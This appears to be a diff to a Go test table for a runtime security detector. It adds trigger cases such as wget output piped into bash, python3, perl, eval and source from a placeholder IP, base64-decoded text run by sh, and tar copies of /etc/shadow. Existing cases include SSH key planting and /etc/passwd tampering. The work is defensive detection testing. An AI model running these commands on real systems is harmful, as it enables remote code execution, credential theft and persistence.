@@ -75,6 +75,16 @@ var ownDeeds = []deed{
 	{"Download piped into a shell", outside, "try bash -c 'bash -c \"$(wget -T 1 -t 1 -qO- http://192.0.2.9/;seq 2)\"'"},
 	{"Download piped into a shell", outside, "run bash -c 'bash <(wget -T 1 -t 1 -qO- http://192.0.2.9/)'"},
 
+	{"Download piped into a shell", outside, "run bash -c 'python3 <(wget -T 1 -t 1 -qO- http://192.0.2.9/)'"},
+	{"Download piped into a shell", outside, "try bash -c 'python3 -c \"$(wget -T 1 -t 1 -qO- http://192.0.2.9/;seq 2)\"'"},
+	{"Download piped into a shell", outside, "try bash -c 'perl -e \"$(wget -T 1 -t 1 -qO- http://192.0.2.9/;seq 2)\"'"},
+	{"Download piped into a shell", outside, "try bash -c 'eval \"$(wget -T 1 -t 1 -qO- http://192.0.2.9/)\"'"},
+	{"Download piped into a shell", outside, "try bash -c 'source <(wget -T 1 -t 1 -qO- http://192.0.2.9/)'"},
+	{"Download piped into a shell", outside, "try bash -c '. <(wget -T 1 -t 1 -qO- http://192.0.2.9/)'"},
+	{"Encoded text run by a shell", outside, "run sh -c 'echo dHJ1ZQo=|base64 -d|sh'"},
+	{"Encoded text run by a shell", outside, "run bash -c 'bash <(echo dHJ1ZQo=|base64 -d)'"},
+	{"Encoded text run by a shell", outside, "run bash -c 'bash -c \"$(echo dHJ1ZQo=|base64 -d)\"'"},
+
 	// logins.yaml
 	{"Attack on pkexec or sudoedit", anywhere, `as sudoedit -s \`},
 	{"Page faults handled by an ordinary user", outside, "uid 1000 | userfaultfd"},
@@ -99,6 +109,9 @@ var ownDeeds = []deed{
 	{"Link to a secret made", anywhere, "link /etc/shadow /etc/shadow-$NAME"},
 	{"Link to a secret made", anywhere, "symlink /etc/shadow $HERE/x"},
 	{"Environment of another process read", anywhere, "read /proc/$PARENT/environ"},
+	{"Secret of the system read", outside, "symlink /etc/shadow $HERE/x | run tar -chf $HERE/y $HERE/x"},
+	{"Secret of the system read", outside, "run sh -c 'tar -cPf $HERE/y /etc/shadow'"},
+	{"Secrets copied by a backup", outside, "run tar -cPf $HERE/y /etc"},
 	{"Search for credentials", anywhere, "run find /root -name id_rsa"},
 
 	// evasion.yaml
@@ -134,6 +147,7 @@ var ownDeeds = []deed{
 	{"Rules of logging in changed", anywhere, "append /etc/passwd | symlink /etc/passwd $HERE/x | chmod 666 $HERE/x"},
 	{"Rules of logging in changed", anywhere, "append /etc/group | symlink /etc $HERE/x | cd $HERE | rename x/group x/$NAME"},
 	{"Rules of logging in changed", anywhere, "append /etc/gshadow | symlink /etc $HERE/x | remove $HERE/x/gshadow"},
+	{"Software installed past the package manager", outside, "as make | run sh -c 'echo >/usr/local/bin/$NAME'"},
 	{"List of accepted SSH keys changed", anywhere, "create /home/ada/.ssh/y | symlink /home/ada $HERE/x | rename $HERE/x/.ssh/y $HERE/x/.ssh/authorized_keys"},
 }
 
